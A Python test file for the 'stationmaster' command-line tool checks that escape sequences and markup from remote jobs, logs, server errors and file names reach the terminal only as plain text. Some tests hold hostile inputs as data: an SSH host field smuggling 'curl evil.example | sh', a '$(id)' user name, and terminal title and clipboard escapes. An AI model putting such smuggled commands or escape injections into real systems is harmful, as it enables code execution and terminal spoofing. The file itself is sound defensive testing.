"""What machines, files, servers and models of strangers wrote is only text on your terminal."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from stationmaster.model import SshAccess
from stationmaster.printable import printable
from stationmaster.station.wire.problem import MEDIA_TYPE, Problem
from stationmaster.tui.sources.job_lines import ssh_command
from tests.support.commands.command_line import PATIENCE_SECONDS, command_server
from tests.support.commands.terminal import Session, at_terminal
from tests.support.jobs.hostile_texts import (
    CONTROLS,
    ESCAPES,
    LOG,
    LOG_REST,
    put_hostile_job,
)
from tests.support.jobs.local_world import LocalWorld
from tests.support.servers.answering_server import answering
from tests.support.terminal.pty_program import PtyProgram

_JOB, _OTHER = "cats1234", "dogs5678"
_COMMAND = str(Path(sys.executable).with_name("stationmaster"))
_OUR_COLOURS = re.compile(r"\x1b\[[0-9;]*m")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalWorld]:
    with LocalWorld(tmp_path_factory.mktemp("hostile")) as world:
        for job_id in (_JOB, _OTHER):
            put_hostile_job(world.store, job_id)
        yield world


def shown(world: LocalWorld, *words: str, **answers: str) -> Session:
    """Run a command at a terminal."""
    return at_terminal(
        [command_server().own_command, *words],
        # NO_COLOR: what is left of colours is not ours. COLUMNS: no text is cut or left out.
        environ={**world.environ, "TERM": "xterm-256color", "PYTHONUTF8": "1", "NO_COLOR": "1", "COLUMNS": "1000"},
        cwd=world.folder,
        answers={question.replace("_", " "): answer for question, answer in answers.items()},
        seconds=PATIENCE_SECONDS,
    )


def assert_only_text(session: Session) -> None:
    found = CONTROLS.findall(session.shown.replace("\r\n", "\n"))
    assert not found, (found, session.shown)


@pytest.mark.parametrize(
    "words",
    [
        ("logs", _JOB),
        ("logs", _JOB, "--follow"),
        ("logs", _JOB, "--grep", "bold"),
        ("logs", _JOB, "--json"),
        ("show", _JOB),
        ("show", _JOB, "--events", "--progress"),
        ("show", _JOB, "--events", "--json"),
        ("jobs", "--all"),
        ("jobs", "--all", "--json"),
        ("models", "list"),
        ("models", "show", f"cats-{_JOB}"),
        ("models", "show", f"cats-{_JOB}", "--json"),
        ("notify", "inbox", "--keep"),
        ("notify", "inbox", "--keep", "--json"),
        ("watch", "--once"),
        ("watch", "--once", "--plain"),
        ("watch", _JOB, "--once", "--json"),
        ("compare", _JOB, _OTHER),
    ],
    ids=" ".join,
)
def test_no_command_sends_an_escape_of_a_machine_to_the_terminal(world: LocalWorld, words: tuple[str, ...]) -> None:
    session = shown(world, *words)
    assert session.code == 0, session.shown
    assert re.search(r"abcde|\[bold red\]|a\\x1b\]0;pwned", session.shown), "the text is there"
    assert_only_text(session)


def test_json_on_a_terminal_is_exact(world: LocalWorld) -> None:
    found = json.loads(shown(world, "models", "show", f"cats-{_JOB}", "--json").shown)
    assert found["file_name"] == f"{ESCAPES}.safetensors"


def test_a_log_on_a_terminal_is_all_there_and_its_markup_is_only_text(world: LocalWorld) -> None:
    text = shown(world, "logs", _JOB).shown.replace("\r\n", "\n")
    assert text == printable((LOG + LOG_REST).decode(errors="replace"))
    assert "g[bold red]h[/]\n10%\n20%\n" in text
    assert "split over two pieces\n" in text
    assert "\\x1b]0;never ends\n" in text


def test_a_log_through_a_pipe_has_the_bytes_of_the_machine(world: LocalWorld) -> None:
    piped = subprocess.run(
        [command_server().own_command, "logs", _JOB], env=world.environ, cwd=world.folder, capture_output=True
    )
    assert piped.stdout == LOG + LOG_REST


def test_an_error_of_a_machine_cannot_look_like_another_line(world: LocalWorld) -> None:
    lines = shown(world, "show", _JOB).shown.splitlines()
    assert not any(line.startswith("Next:") for line in lines)
    assert any("\\nNext: run this" in line for line in lines)


def test_a_question_names_a_job_as_text(world: LocalWorld) -> None:
    session = shown(world, "jobs", "rm", _JOB, and_its_files="n")
    assert session.code == 0
    assert_only_text(session)


def test_names_of_a_datasets_files_are_text(world: LocalWorld) -> None:
    folder = world.folder / "pictures"
    folder.mkdir(exist_ok=True)
    (folder / f"{ESCAPES.replace('/', '')}.png").write_bytes(b"no picture")
    session = at_terminal(
        [command_server().own_command, "dataset", "check", str(folder)],
        environ={**world.environ, "TERM": "xterm-256color", "NO_COLOR": "1"},
        cwd=world.folder,
        answers={},
        seconds=PATIENCE_SECONDS,
    )
    assert "not ready" in session.shown
    assert_only_text(session)


def test_what_a_log_file_contains_is_text_in_its_summary(world: LocalWorld) -> None:
    log = world.folder / "train.log"
    log.write_text(f"step 1/10 loss: 0.5\nSaved checkpoint to /x/{ESCAPES}.safetensors\nRuntimeError: {ESCAPES}\n")
    session = shown(world, "parse", str(log))
    assert session.code == 0, session.shown
    assert_only_text(session)


def test_the_error_of_a_strange_server_is_text(world: LocalWorld) -> None:
    problem = Problem(type="x", title="x", status=400, detail=f"no {ESCAPES}\nerror: more", hint=ESCAPES)
    with answering(400, problem.model_dump_json(), content_type=MEDIA_TYPE) as url:
        session = shown(world, "--server", url, "jobs")
    assert session.code != 0
    assert [line.partition(" ")[0] for line in session.shown.splitlines()] == ["error:", "hint:"]
    assert "\\nerror: more" in session.shown
    assert_only_text(session)


def test_standard_error_is_guarded_even_if_standard_output_is_a_file(world: LocalWorld) -> None:
    command = f"{command_server().own_command} show \"$(printf 'x\\033]0;pwned\\007')\" > out.txt"
    session = at_terminal(
        ["/bin/sh", "-c", command], environ=world.environ, cwd=world.folder, answers={}, seconds=PATIENCE_SECONDS
    )
    assert "there is no job" in session.shown
    assert "\x1b]0" not in session.shown


def test_the_app_draws_a_hostile_job_without_its_escapes(world: LocalWorld) -> None:
    """The app itself moves the cursor and colours; titles, the clipboard and hidden text are only a stranger's."""
    with PtyProgram([_COMMAND, "watch", _JOB], environ={**world.environ, "LANG": "C.UTF-8"}, cwd=world.folder) as app:
        app.until_written("split over two pieces")
        app.press("q")
        app.wait(PATIENCE_SECONDS)
        written = bytes(app.written).decode(errors="replace")
    assert "[bold red]h[/]" in app.text()
    for never in ("\x1b]0;", "]52;", "pwned", "\x1b[2J\x1b[H", "\x1bc", "\x1b(0", "\x9b", "\x9d", "\u202e", "\u2066"):
        assert never not in written


def test_a_copied_ssh_command_runs_nothing_that_a_provider_wrote(world: LocalWorld) -> None:
    access = SshAccess(host="h; curl evil.example | sh\nx", port=22, user="$(id)", job_root="/job")
    command = ssh_command(replace(world.station.jobs.view(_JOB), access=access))
    assert command is not None
    assert shlex.split(command) == ["ssh", "-p", "22", "$(id)@h; curl evil.example | sh\nx"]


def test_a_job_that_is_followed_in_a_few_lines_is_text(world: LocalWorld) -> None:
    """As `train --watch` does; here on a terminal on which the app cannot draw."""
    session = at_terminal(
        [command_server().own_command, "watch", _JOB],
        environ={**world.environ, "TERM": "dumb"},
        cwd=world.folder,
        answers={},
        seconds=PATIENCE_SECONDS,
    )
    assert session.code == 41, session.shown
    assert "FAILED" in session.shown
    assert_only_text(session)


def test_a_worker_at_a_terminal_logs_text(world: LocalWorld) -> None:
    program = (
        "from stationmaster.cli.terminal_output import guard_terminal\n"
        "from stationmaster.cli.logging import service_logging\n"
        "from stationmaster.event_log import get_logger\n"
        "import sys\n"
        "guard_terminal(); service_logging('INFO')\n"
        "try: raise ValueError(sys.argv[1])\n"
        "except ValueError: get_logger('x').exception('machine.said', text=sys.argv[1], many=[sys.argv[1]])\n"
    )
    session = at_terminal(
        [sys.executable, "-c", program, ESCAPES],
        environ={**os.environ, "TERM": "xterm"},
        cwd=world.folder,
        answers={},
        seconds=PATIENCE_SECONDS,
    )
    assert "machine.said" in session.shown
    assert "ValueError: abcde" in session.shown
    assert_only_text(Session(code=0, shown=_OUR_COLOURS.sub("", session.shown)))
